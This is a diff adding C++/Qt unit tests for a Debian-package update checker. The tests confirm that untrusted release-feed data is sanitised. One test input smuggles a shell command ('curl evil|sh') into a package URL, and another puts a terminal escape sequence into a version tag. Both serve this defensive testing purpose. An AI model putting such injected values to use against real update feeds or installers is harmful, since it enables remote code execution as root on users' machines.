@@ -204,6 +204,63 @@ private slots:
         QVERIFY(!knownUpdate(*saved, QStringLiteral("0.1.0")).available); // and nothing to say
     }
 
+    // What a feed says reaches a terminal and a root command: only versions, plain .deb names
+    // and https (or this machine) are taken from it.
+    void takesOnlyWhatIsSafeFromTheFeed()
+    {
+        QJsonObject evil = releaseObject(QStringLiteral("v9.0.0"), QStringLiteral("https://x/a;curl evil|sh;_amd64.deb"));
+        Result<UpdateInfo> info = parseReleaseFeed(QJsonDocument(evil).toJson(), QStringLiteral("0.1.0"));
+        QVERIFY(info);
+        QVERIFY(info->packageUrl.isEmpty());
+        evil = releaseObject(QStringLiteral("v9.0.0"), QStringLiteral("http://example.com/noorm_9.0.0_amd64.deb"));
+        info = parseReleaseFeed(QJsonDocument(evil).toJson(), QStringLiteral("0.1.0"));
+        QVERIFY(info && info->packageUrl.isEmpty()); // plain http elsewhere: not offered
+        evil.insert(QStringLiteral("tag_name"), QStringLiteral("v9.0\x1b]0;pwned\x07"));
+        QVERIFY(!parseReleaseFeed(QJsonDocument(evil).toJson(), QStringLiteral("0.1.0")));
+        UpdateInfo downloaded;
+        downloaded.downloaded = QStringLiteral("/home/o'neil/.noorm/updates/noorm_9.0.0_amd64.deb");
+        QCOMPARE(installCommand(downloaded), QStringLiteral("sudo apt install '/home/o'\\''neil/.noorm/updates/noorm_9.0.0_amd64.deb'"));
+
+        QTemporaryDir home;
+        UserSettings settings;
+        settings.updateFeed = QStringLiteral("http://example.com/latest");
+        QVERIFY(settings.save(home.path()));
+        Result<UpdateInfo> refused = checkForUpdate({home.path(), QStringLiteral("0.1.0")});
+        QVERIFY(!refused);
+        QCOMPARE(refused.error().kind, ErrorKind::Refused);
+    }
+
+    void offAsksNothingAndSaysNothing()
+    {
+        QTemporaryDir home;
+        UserSettings settings;
+        settings.checkUpdates = false;
+        settings.cachedVersion = QStringLiteral("9.0.0");
+        settings.lastCheck = QDateTime::currentDateTimeUtc();
+        QVERIFY(settings.save(home.path()));
+        Result<UpdateInfo> info = checkForUpdate({home.path(), QStringLiteral("0.1.0")});
+        QVERIFY(info);
+        QVERIFY(!info->available);
+    }
+
+    // A check saves only what it found: preferences changed while it ran stay changed.
+    void aCheckKeepsPreferencesChangedMeanwhile()
+    {
+        QTemporaryDir home;
+        UserSettings snapshot;
+        QVERIFY(snapshot.save(home.path()));
+        UserSettings edited = snapshot;
+        edited.checkUpdates = false; // the user, while the check runs
+        QVERIFY(edited.save(home.path()));
+        snapshot.cachedVersion = QStringLiteral("9.0.0");
+        snapshot.lastCheck = QDateTime::currentDateTimeUtc();
+        QVERIFY(snapshot.saveCheck(home.path()));
+        Result<UserSettings> now = UserSettings::load(home.path());
+        QVERIFY(now);
+        QVERIFY(!now->checkUpdates);
+        QCOMPARE(now->cachedVersion, QStringLiteral("9.0.0"));
+    }
+
     void aProjectCanTurnTheCheckOffButNotOnAutoUpdate()
     {
         QTemporaryDir project;
